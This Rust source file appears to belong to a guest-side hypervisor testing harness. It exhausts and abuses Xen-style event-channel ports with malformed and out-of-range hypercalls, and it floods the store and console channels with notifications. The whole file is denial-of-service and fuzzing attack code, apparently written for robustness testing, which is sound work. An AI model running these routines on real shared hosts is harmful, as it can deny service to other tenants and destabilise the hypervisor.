//! Event channels, more of them and more often than anybody needs.

use pv_guest_lib::abi::evtchn::EvtchnOp;
use pv_guest_lib::abi::hvm::Param;
use pv_guest_lib::abi::nr;
use pv_guest_lib::hypercall::hvm_param;

use crate::Attacker;
use crate::sys::{Scratch, hypercall, millisecond, now};

/// One `event_channel_op` on up to 24 bytes at `argument`.
pub fn operation(scratch: Scratch, operation: EvtchnOp, argument: u64, words: [u64; 3]) -> u64 {
    for (at, word) in (0..).step_by(8).zip(words) {
        scratch.set(argument + at, word);
    }
    hypercall(u64::from(nr::EVENT_CHANNEL_OP), [u64::from(operation.raw()), scratch.at(argument), 0, 0, 0, 0])
}

/// Takes ports until there are none left, ends half of them in odd ways, and keeps the rest.
pub fn ports(attacker: &mut Attacker) -> u64 {
    let scratch = attacker.scratch;
    let mut taken = 0;
    for dom in [0, 0x7FF0, 0x7FFF, 5] {
        for _ in 0..5000 {
            if operation(scratch, EvtchnOp::AllocUnbound, 0, [0x7FF0 | dom << 16, 0, 0]) != 0 {
                break;
            }
            taken += 1;
        }
        if dom == 0 {
            for port in (20..2000).step_by(2) {
                operation(scratch, EvtchnOp::Close, 0, [port, 0, 0]);
            }
        }
    }
    for port in (0..4200).chain([0x7FFF_FFFF, 0x8000_0000, 0xFFFF_FFFF]) {
        // The store's and the console's ports are needed by later attacks.
        if port > 8 && port % 3 == 0 {
            operation(scratch, EvtchnOp::Close, 0, [port, 0, 0]);
        }
        operation(scratch, EvtchnOp::BindInterdomain, 0, [0x7FF0 | port << 32, 0, 0]);
        operation(scratch, EvtchnOp::BindInterdomain, 0, [port << 32, 0, 0]);
        operation(scratch, EvtchnOp::BindVirq, 0, [port & 31, 0, 0]);
        operation(scratch, EvtchnOp::BindIpi, 0, [port & 3, 0, 0]);
        operation(scratch, EvtchnOp::BindVcpu, 0, [port | (port & 3) << 32, 0, 0]);
        operation(scratch, EvtchnOp::Status, 0, [0x7FF0 | port << 32, 0, 0]);
        operation(scratch, EvtchnOp::Status, 0, [port << 32, 0, 0]);
        operation(scratch, EvtchnOp::Unmask, 0, [port, 0, 0]);
        operation(scratch, EvtchnOp::Send, 0, [port, 0, 0]);
        operation(scratch, EvtchnOp::SetPriority, 0, [port | 99 << 32, 0, 0]);
        operation(scratch, EvtchnOp::ExpandArray, 0, [port, 0, 0]);
        operation(scratch, EvtchnOp::InitControl, 0, [port, 0, 17]);
    }
    operation(scratch, EvtchnOp::Reset, 0, [0, 0, 0]);
    for port in 9..4096 {
        operation(scratch, EvtchnOp::Close, 0, [port, 0, 0]);
    }
    taken
}

/// Sends to the store and to the console a million times, or for five seconds, without a byte in the rings.
pub fn storm(attacker: &mut Attacker) -> u64 {
    let ports = [Param::StoreEvtchn, Param::ConsoleEvtchn].map(|param| hvm_param(param).unwrap_or(0));
    let until = now() + 5000 * millisecond();
    let mut sent = 0;
    while sent < 1_000_000 && now() < until {
        for port in ports {
            attacker.scratch.set(0, port);
            let send = u64::from(EvtchnOp::Send.raw());
            hypercall(u64::from(nr::EVENT_CHANNEL_OP), [send, attacker.scratch.base(), 0, 0, 0, 0]);
            sent += 1;
        }
    }
    sent
}
